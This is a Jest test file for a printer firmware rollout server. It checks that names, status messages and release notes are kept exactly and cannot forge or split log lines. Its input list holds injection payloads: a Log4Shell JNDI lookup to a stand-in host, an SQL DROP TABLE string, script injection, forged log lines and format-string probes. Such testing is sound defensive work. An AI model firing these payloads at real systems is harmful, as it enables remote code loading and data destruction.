import { randomUUID } from 'node:crypto';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, jest } from '@jest/globals';
import { AppConfig } from '../../src/config/config.js';
import type { FirmwareResponse } from '../../src/firmware/firmware-response.dto.js';
import { ServerLogger } from '../../src/server-logger.js';
import { eventually } from '../support/eventually.js';
import { details, expectStatus, history, roll, upload } from '../support/factories.js';
import type { ProblemBody } from '../support/factories.js';
import { RawSocket, subscribeMessage } from '../support/raw-socket.js';
import { TestServer } from '../support/server.js';
import { expectStillWorks } from '../support/still-works.js';

const FORGED = '[Nest] 1  - 01/01/2030, 00:00:00     LOG [Rollout] Rollout 1 of 1.5.0 is completed';
const TEXTS = [
  'Büro 3',
  '打印机',
  '🖨️👩‍💻🏳️‍🌈',
  '\u202eesreveR\u202c',
  '\u2066isolated\u2069\u200f\u200e',
  'e\u0301 is not \u00e9',
  '\u0000',
  'before\u0000behind',
  'bell\u0007, escape\u001b[31mred\u001b[0m, delete\u007f',
  '\u009b31mred, \u0085next line',
  'line\u2028separator\u2029paragraph',
  'tab\tand\u000bvertical',
  `one\ntwo`,
  `one\r\n${FORGED}`,
  `one\r${FORGED}`,
  '<script>alert(1)</script>',
  '"; DROP TABLE printer; --',
  '${jndi:ldap://evil.example/a}',
  '%s %d %n {} {{7*7}}',
  ' ',
  '\ufeffmark',
  '\uffff\ufdd0',
];

describe.each(['text', 'json'])('A name, in a server that logs %s,', (format) => {
  let server: TestServer;
  let log = '';

  beforeAll(async () => {
    // The logger's own colours would hide those of a name.
    process.env.NO_COLOR = '1';
    const settings = { LOG_FORMAT: format, LOG_LEVEL: 'verbose' };
    server = await TestServer.start(settings, new ServerLogger(new AppConfig(settings)));
    await upload(server, '1.5.0');
  });
  afterAll(async () => {
    delete process.env.NO_COLOR;
    await server.stop();
  });
  beforeEach(() => {
    log = '';
    const take = (chunk: unknown): boolean => {
      log += String(chunk);
      return true;
    };
    jest.spyOn(process.stdout, 'write').mockImplementation(take);
    jest.spyOn(process.stderr, 'write').mockImplementation(take);
  });
  afterEach(() => {
    jest.restoreAllMocks();
  });

  /** Every entry is one line, which no character of the text can end, turn round or colour. */
  function expectOneLineAnEntry(): void {
    const lines = log.split('\n').slice(0, -1);
    expect(lines.length).toBeGreaterThan(0);
    const entry =
      format === 'json' ? /^\{"level":.*\}$/ : /^\[Nest\] \d+ {2}- .* (?:LOG|DEBUG|WARN|ERROR) \[/;
    for (const line of lines) expect(line).toMatch(entry);
    expect(lines.filter((line) => line.startsWith('[Nest] 1  '))).toEqual([]);
    if (format === 'json') for (const line of lines) JSON.parse(line);
    expect(lines.join('')).not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}\u200e\u200f\u202a-\u202e\u2066-\u2069]/u);
  }

  it.each(TEXTS)('of a printer is kept and answered exactly: %j', async (name) => {
    const raw = await RawSocket.open(server);
    const hello = { printer_name: name, printer_id: randomUUID(), firmware_version: '1.4.0' };
    expect(await raw.ask(hello)).toMatchObject({
      code: 'subscription_accepted',
      detail: `Subscribed as ${name}`,
    });
    expect((await details(server, hello.printer_id)).name).toBe(name);
    raw.socket.close();
    expectOneLineAnEntry();
  });

  it.each(TEXTS)('in what a printer reports is kept and answered exactly: %j', async (text) => {
    const printerId = randomUUID();
    const { id } = await roll(server, '1.5.0', { target: { printer_ids: [printerId] } });
    const raw = await RawSocket.open(server);
    await raw.ask(subscribeMessage({ printer_id: printerId }));
    raw.socket.send(JSON.stringify({ kind: 'firmware_progress', percent: 1, status: text }));
    const progressed = async (): Promise<unknown> =>
      (await history(server, printerId))[0]!.last_status_message;
    await eventually('the progress', progressed, (seen) => seen === text);
    raw.socket.send(JSON.stringify({ kind: 'firmware_failed', error: text }));
    await eventually(
      'the failure',
      async () => (await history(server, printerId))[0]!,
      ({ error_message }) => error_message === text,
    );
    await eventually('the log of it', () => log.includes(' failed: '));
    raw.socket.close();
    expectOneLineAnEntry();
    expectStatus(await server.request('DELETE', `/api/rollouts/${id}`), 204);
  });

  it.each(TEXTS)('in release notes is kept and answered exactly: %j', async (text) => {
    const long = text.repeat(Math.ceil(4_096 / text.length));
    for (const notes of [text, long]) {
      const body = { release_notes: notes, changelog: notes };
      const answer = await server.request<FirmwareResponse>('PATCH', '/api/firmware/1.5.0', body);
      expect(expectStatus(answer, 200)).toMatchObject(body);
      const again = await server.request<FirmwareResponse>('GET', '/api/firmware/1.5.0');
      expect(expectStatus(again, 200)).toMatchObject(body);
    }
    expectOneLineAnEntry();
  });

  it.each([
    ['4 KiB', 'x'.repeat(4_096)],
    ['4 KiB of emoji', '🖨'.repeat(1_024)],
    ['129 characters', 'x'.repeat(129)],
    ['half a character', 'x\ud83d'],
    ['the other half', '\udda8x'],
    ['nothing', ''],
  ])('of %s is replaced, clearly and briefly', async (_what, name) => {
    const raw = await RawSocket.open(server);
    const hello = { printer_name: name, printer_id: randomUUID() };
    const answer = await raw.ask(hello);
    expect(answer).toMatchObject({
      code: 'subscription_accepted',
      detail: expect.stringMatching(/^Subscribed as Printer [0-9a-f]{8}; not usable: printer_name$/),
    });
    expect(JSON.stringify(answer).length).toBeLessThan(1_024);
    const record = await details(server, hello.printer_id);
    expect(record.problems).toMatchObject([{ field: 'printer_name' }]);
    expect(record.problems[0]!.value!.length).toBeLessThanOrEqual(128);
    await raw.ask({ ...hello, printer_name: 'x'.repeat(128) });
    expect(await details(server, hello.printer_id)).toMatchObject({ name: 'x'.repeat(128), problems: [] });
    raw.socket.close();
    expectOneLineAnEntry();
  });

  it.each([
    ['100,001 characters', 'x'.repeat(100_001)],
    ['half a character', '\ud83d'],
    ['a number', 5],
  ])('in release notes of %s is refused, clearly', async (_what, release_notes) => {
    const answer = await server.request<ProblemBody>('PATCH', '/api/firmware/1.5.0', { release_notes });
    expect(answer.body).toMatchObject({ status: 400, errors: [{ field: 'release_notes' }] });
  });

  it('in a path makes no line of the log either', async () => {
    for (const text of TEXTS) {
      await server.request('GET', `/api/printers/${encodeURIComponent(text)}`);
      await server.request('GET', `/api/firmware/${encodeURIComponent(text)}?${encodeURIComponent(text)}`);
    }
    expectOneLineAnEntry();
  });

  it('of every kind has left a server that still works', async () => {
    await expectStillWorks(server);
  });
});
